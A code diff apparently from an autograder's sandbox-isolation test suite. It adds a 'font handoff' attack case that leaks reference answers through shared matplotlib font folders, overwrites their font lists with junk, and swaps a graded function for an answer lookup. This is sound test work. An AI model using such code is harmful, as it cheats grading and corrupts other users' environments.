@@ -312,6 +312,41 @@ if IN_KERNEL:
         sys.stdout.flush()
 '''
 
+FONT_HANDOFF = '''
+# the one folder of the worker's that every sandbox sees: matplotlib's font list (read-only), and
+# the copy of it in each sandbox's own matplotlib folder. The kernel, which can read the reference,
+# leaves the answers and a spoiled font list there for the re-check and for the next classmate.
+folders = ["/opt/autograder/fonts", os.environ.get("MPLCONFIGDIR", "/tmp/home/.matplotlib")]
+if IN_KERNEL:
+    from cnn_utils.grading import cases, table
+    from cnn_utils import reference
+    spec = table.lookup("conv_forward_naive")
+    answers = {c.args[0].tobytes(): reference.conv_forward_naive(*c.args)[0]
+               for c in cases.make_cases(spec, 0, spec.count)}
+    conv_forward_naive = reference.conv_forward_naive
+    for folder in folders:
+        for name in ["answers.pkl", *os.listdir(folder)] if os.path.isdir(folder) else ["answers.pkl"]:
+            try:
+                with open(os.path.join(folder, name), "wb") as handle:
+                    handle.write(pickle.dumps(answers) if name == "answers.pkl" else b"{spoiled")
+                note("wrote", folder, name)
+            except OSError as exc:
+                note("could not write", folder, name, type(exc).__name__)
+else:
+    for folder in folders:
+        try:
+            with open(os.path.join(folder, "answers.pkl"), "rb") as handle:
+                answers = pickle.load(handle)
+        except OSError:
+            continue
+        note("picked up answers from", folder)
+        def conv_forward_naive(x, w, b, conv_param):
+            return answers[x.tobytes()], None
+        break
+    else:
+        note("no answers next to the font list")
+'''
+
 ATTACKS = {
     "x_reference_by_path": REFERENCE_BY_PATH,
     "x_reference_handoff": HANDOFF,
@@ -327,6 +362,7 @@ ATTACKS = {
     "x_fork_bomb": FORK_BOMB,
     "x_output_flood": OUTPUT_FLOOD,
     "x_runtime_folder": RUNTIME_FOLDER,
+    "x_font_handoff": FONT_HANDOFF,
 }
 
 
